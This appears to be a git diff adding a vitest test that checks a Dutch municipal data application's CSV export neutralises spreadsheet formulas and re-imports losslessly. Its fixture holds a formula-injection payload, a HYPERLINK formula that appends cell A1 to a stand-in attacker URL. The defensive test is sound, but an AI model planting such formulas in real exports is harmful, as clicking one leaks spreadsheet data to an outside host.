@@ -1,5 +1,6 @@
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { startTestApp, type TestApp } from "../../../test/helpers/app.js";
+import { parseCsv } from "../../platform/csv.js";
 
 let t: TestApp;
 let staff: string;
@@ -368,6 +369,35 @@ describe("export of a selection", () => {
     ).body;
     const res = await importCsv(csv);
     expect(res.json()).toMatchObject({ geslaagd: true, nieuw: 0, gecorrigeerd: 0 });
+  });
+
+  it("neutralises formulas in the CSV export, keeps negative numbers, and imports the export back unchanged", async () => {
+    const source = '=HYPERLINK("http://aanval.example/?"&A1,"Klik hier")';
+    const note = "@SUM(A1) -2";
+    const planted = `${header}\nwmo-kosten,GM0356,2031,,realisatie,"-1250,5","${source.replaceAll('"', '""')}",,definitief,${note}`;
+    expect((await importCsv(planted)).json()).toMatchObject({ geslaagd: true, nieuw: 1 });
+    const url = "/api/v1/metingen?indicator=wmo-kosten&vanJaar=2031&totJaar=2031";
+    const exported = (await t.app.inject({ url: `${url}&formaat=csv` })).body;
+    expect(exported).toContain(`"'=HYPERLINK(""http://aanval.example/?""&A1,""Klik hier"")"`);
+    expect(parseCsv(exported)[1]).toEqual([
+      "wmo-kosten",
+      "GM0356",
+      "2031",
+      "",
+      "realisatie",
+      "-1250.5",
+      `'${source}`,
+      "",
+      "definitief",
+      `'${note}`,
+    ]);
+    expect((await importCsv(exported)).json()).toMatchObject({
+      geslaagd: true,
+      nieuw: 0,
+      gecorrigeerd: 0,
+    });
+    const [stored] = (await t.app.inject({ url })).json().metingen;
+    expect(stored).toMatchObject({ waarde: -1250.5, bron: source });
   });
 });
 
